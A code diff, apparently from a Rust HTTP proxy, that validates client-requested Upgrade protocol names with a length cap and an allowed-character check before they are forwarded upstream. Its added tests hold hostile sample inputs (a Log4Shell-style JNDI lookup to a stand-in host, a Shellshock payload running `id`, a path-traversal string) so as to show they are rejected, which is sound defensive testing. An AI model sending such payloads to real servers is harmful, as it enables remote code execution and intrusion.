@@ -51,6 +51,9 @@ const END_TO_END: [HeaderName; 6] = [
     header::AUTHORIZATION,
 ];
 
+/// Bytes of a protocol's name: the longest registered one has 16.
+const MAX_PROTOCOL: usize = 32;
+
 /// The protocol that a client asks to switch to, when it may.
 pub type Upgrade = HeaderValue;
 
@@ -79,7 +82,17 @@ fn wanted_upgrade(headers: &HeaderMap, version: Version) -> Option<Upgrade> {
     let carries_http = ["h2", "http", "tls"]
         .iter()
         .any(|prefix| name.starts_with(prefix));
-    (!carries_http && !name.contains(',')).then(|| value.clone())
+    (!carries_http && is_protocol(&name)).then(|| value.clone())
+}
+
+/// A name with an optional version, such as `websocket` or `foo/1.1`. The value goes to the upstream without having
+/// been inspected, so it must not be able to say anything else.
+fn is_protocol(name: &str) -> bool {
+    name.len() <= MAX_PROTOCOL
+        && name.starts_with(|first: char| first.is_ascii_alphabetic())
+        && name
+            .bytes()
+            .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'/'))
 }
 
 fn lists(headers: &HeaderMap, token: &str) -> bool {
@@ -345,6 +358,10 @@ mod tests {
         assert!(!wanted("upgrade", "h2c", Version::HTTP_11));
         assert!(!wanted("upgrade", "TLS/1.0, HTTP/1.1", Version::HTTP_11));
         assert!(!wanted("upgrade", "websocket, h2c", Version::HTTP_11));
+        // It would pass uninspected.
+        for payload in ["${jndi:ldap://evil/a}", "() { :; }; id", "../../x", ""] {
+            assert!(!wanted("upgrade", payload, Version::HTTP_11), "{payload}");
+        }
     }
 
     #[test]
